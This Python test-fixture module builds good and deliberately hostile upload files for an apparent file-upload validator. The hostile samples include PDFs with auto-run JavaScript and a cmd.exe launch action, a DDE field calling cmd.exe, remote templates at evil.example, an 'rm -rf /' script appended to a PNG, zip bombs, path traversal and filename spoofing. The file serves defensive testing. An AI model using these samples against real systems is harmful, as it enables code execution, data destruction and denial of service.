"""Files as people upload them, made here: good ones of each kind, and hostile ones that each do one thing wrong."""

import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{}"/></Types>'
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" TargetMode="External"/>'
    "</Relationships>"
)
ODT_CONTENT = (
    '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><text:p>My answer</text:p>{}</office:body>'
    "</office:document-content>"
)


def picture(form, size=(40, 30), mode="RGB", **options):
    kept = io.BytesIO()
    Image.new(mode, size, 1).save(kept, form, **options)
    return kept.getvalue()


def photo_with_a_place():
    exif = Image.Exif()
    exif[0x010E] = "taken at home"
    return picture("JPEG", exif=exif)


def pdf(change=None, **options):
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    if change:
        change(document)
    kept = io.BytesIO()
    document.save(kept, **options)
    return kept.getvalue()


def archive(parts, compression=zipfile.ZIP_DEFLATED):
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", compression) as made:
        for name, content in parts.items():
            made.writestr(name, content, zipfile.ZIP_STORED if name == "mimetype" else None)
    return kept.getvalue()


def docx(main=DOCX_MAIN, text="My answer", **more):
    document = f"<w:document {W}><w:body><w:p><w:r>{text}</w:r></w:p></w:body></w:document>"
    named = {"[Content_Types].xml": CONTENT_TYPES.format(main), "word/document.xml": document}
    return archive(named | more.pop("parts", {}))


def odt(inside="", parts=None):
    named = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": ODT_CONTENT.format(inside)}
    return archive(named | {"META-INF/manifest.xml": "<manifest/>"} | (parts or {}))


def huge_png():
    """A few hundred bytes that say they are 30,000 by 30,000 pixels."""
    chunk = lambda kind, data: (  # noqa: E731
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    )
    header = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    parts = [chunk(b"IHDR", header), chunk(b"IDAT", zlib.compress(b"\0" * 1000)), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def docx_that_lies_about_its_sizes():
    """A part that unfolds to 4 MB, where the archive says a hundred bytes."""
    data = bytearray(docx(parts={"word/media/big.xml": b"<x>" + b" " * 4_000_000 + b"</x>"}))
    for sign, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        place = data.find(b"word/media/big.xml") if sign == b"PK\x03\x04" else data.rfind(b"word/media/big.xml")
        start = data.rfind(sign, 0, place)
        data[start + offset : start + offset + 4] = struct.pack("<I", 100)
    return bytes(data)


def script_on_opening(document):
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def script_deep_within(document):
    document.pages[0].Annots = pikepdf.Array(
        [pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name("/Launch"), F="cmd.exe"))]
    )


def attachment(document):
    document.attachments["notes.txt"] = b"hello"


def link(document):
    uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://www.gov.uk/")
    document.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=uri)])


def folded_script(document):
    """Where a look at the bytes would not find it: in an object that is folded up with others."""
    document.Root.Names = pikepdf.Dictionary(
        JavaScript=document.make_indirect(pikepdf.Dictionary(Names=pikepdf.Array([])))
    )


FOLDED = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
GOOD = {
    "report.pdf": pdf(),
    "links.pdf": pdf(link, **FOLDED),
    "answer.docx": docx(),
    "answer-with-link.docx": docx(
        parts={"word/_rels/document.xml.rels": RELATION.format("hyperlink", "https://www.gov.uk/")}
    ),
    "answer.odt": odt('<text:a xlink:href="https://www.gov.uk/">GOV.UK</text:a>'),
    "screen.png": picture("PNG"),
    "palette.PNG": picture("PNG", mode="P"),
    "see-through.png": picture("PNG", mode="LA"),
    "photo.jpg": picture("JPEG"),
    "photo.JPEG": photo_with_a_place(),
}
# (name, content, what the person is told)
HOSTILE = {
    "svg with a script": ("a.svg", b"<svg><script>alert(1)</script></svg>", "must be a PDF"),
    "svg called png": ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "must be a PDF"),
    "web page called pdf": ("a.pdf", b"<html><script>alert(1)</script></html>", "must be a PDF"),
    "program called pdf": ("a.pdf", b"MZ" + b"\0" * 200, "must be a PDF"),
    "nothing": ("a.pdf", b"", "is empty"),
    "too large": ("a.pdf", b"%PDF-1.7" + b" " * (10 * 1024 * 1024), "10 MB or smaller"),
    "pdf called png": ("a.png", pdf(), "ends in “.png”, but its content is a PDF"),
    "png called jpg": ("a.jpg", picture("PNG"), "ends in “.jpg”, but its content is a PNG"),
    "name that turns round": ("answer\u202efdp.exe", pdf(), "ends in “.exe”"),
    "two endings": ("answer.pdf.exe", pdf(), "ends in “.exe”"),
    "pdf with a script": ("a.pdf", pdf(script_on_opening), "can run"),
    "pdf with a folded script": ("a.pdf", pdf(folded_script, **FOLDED), "can run"),
    "pdf that starts a program": ("a.pdf", pdf(script_deep_within), "can run"),
    "pdf with a file in it": ("a.pdf", pdf(attachment), "can run, open or attach"),
    "pdf with a password": ("a.pdf", pdf(encryption=pikepdf.Encryption(owner="x", user="y")), "password"),
    "broken pdf": ("a.pdf", b"%PDF-1.7\nnothing here\n%%EOF", "damaged"),
    "pdf and archive in one": ("a.pdf", pdf() + archive({"a.txt": "x"}), "two kinds of file"),
    "picture and archive in one": ("a.jpg", picture("JPEG") + archive({"a.txt": "x"}), "two kinds of file"),
    "picture and page in one": ("a.jpg", b"\xff\xd8\xff\xe0<script>alert(1)</script>", "two kinds of file"),
    "png with something behind it": ("a.png", picture("PNG") + b"#!/bin/sh\nrm -rf /\n", "follows its end"),
    "huge picture": ("a.png", huge_png(), "too many pixels"),
    "broken picture": ("a.png", picture("PNG")[:40] + b"IEND\xaeB`\x82", "damaged"),
    "archive that is no document": ("a.docx", archive({"a.txt": "x"}), "must be a PDF"),
    "spreadsheet called docx": ("a.docx", docx(main="application/vnd.ms-excel"), "not a Word document"),
    "docm called docx": (
        "a.docx",
        docx(main=DOCX_MAIN.replace("document.main", "document.macroEnabled.main")),
        "macros",
    ),
    "docx with macros": ("a.docx", docx(parts={"word/vbaProject.bin": b"x"}), "macros"),
    "docx with a program in it": ("a.docx", docx(parts={"word/embeddings/oleObject1.xls": b"x"}), "macros"),
    "docx with a template elsewhere": (
        "a.docx",
        docx(
            parts={"word/_rels/settings.xml.rels": RELATION.format("attachedTemplate", "https://evil.example/t.dotm")}
        ),
        "fetches parts from elsewhere",
    ),
    "docx with a picture elsewhere": (
        "a.docx",
        docx(parts={"word/_rels/document.xml.rels": RELATION.format("image", "file://evil/share/x.png")}),
        "fetches parts from elsewhere",
    ),
    "docx with a link to a file": (
        "a.docx",
        docx(parts={"word/_rels/document.xml.rels": RELATION.format("hyperlink", "file:///c:/x.exe")}),
        "fetches parts from elsewhere",
    ),
    "docx that starts a program": (
        "a.docx",
        docx(text="<w:instrText>DDEA</w:instrText><w:instrText>UTO c:\\\\cmd.exe</w:instrText>"),
        "fetches parts from elsewhere",
    ),
    "docx with entities": (
        "a.docx",
        docx(parts={"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'}),
        "damaged",
    ),
    "archive bomb": ("a.docx", docx(parts={"word/media/a.png": b"\0" * 30_000_000}), "unfolds to too much"),
    "archive of many large parts": (
        "a.docx",
        docx(parts={f"word/media/{number}.xml": b" " * 250_000 for number in range(260)}),
        "unfolds to too much",
    ),
    "archive of too many parts": (
        "a.docx",
        docx(parts={f"word/{n}.x": "" for n in range(2001)}),
        "unfolds to too much",
    ),
    "archive that lies": ("a.docx", docx_that_lies_about_its_sizes(), "damaged"),
    "archive that climbs out": ("a.docx", docx(parts={"../../evil.xml": "<x/>"}), "damaged"),
    "archive with the same part twice": ("a.docx", docx(parts={"WORD/document.xml": "<x/>"}), "damaged"),
    "archive with something before": ("a.docx", b"PK\x03\x04junk" + docx(), "before or after"),
    "archive with something after": ("a.docx", docx() + b"<script>alert(1)</script>", "before or after"),
    "odt with macros": ("a.odt", odt(parts={"Basic/Standard/Module1.xml": "<x/>"}), "macros"),
    "odt that listens": ("a.odt", odt('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'), "macros"),
    "odt with a picture elsewhere": ("a.odt", odt('<draw:image xlink:href="https://evil.example/x.png"/>'), "fetches"),
    "odt with a link that runs": ("a.odt", odt('<text:a xlink:href="javascript:alert(1)">x</text:a>'), "fetches"),
    "odt with a password": (
        "a.odt",
        odt(parts={"META-INF/manifest.xml": "<x><encryption-data/></x>"}),
        "password",
    ),
}
